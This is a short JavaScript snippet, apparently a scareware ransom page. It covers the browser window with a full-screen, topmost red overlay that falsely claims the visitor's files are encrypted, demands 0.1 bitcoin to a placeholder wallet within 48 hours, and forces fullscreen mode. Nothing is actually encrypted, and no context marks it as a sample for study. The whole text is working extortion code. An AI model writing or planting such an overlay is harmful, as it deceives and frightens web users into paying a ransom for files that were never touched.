var wall = document.createElement("div");
wall.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:#600;color:#fff";
wall.innerHTML = "<h1>Your files have been encrypted!</h1><p>Send 0.1 bitcoin to bc1qPLACEHOLDER within 48 hours.</p>";
document.body.appendChild(wall);
document.documentElement.requestFullscreen();
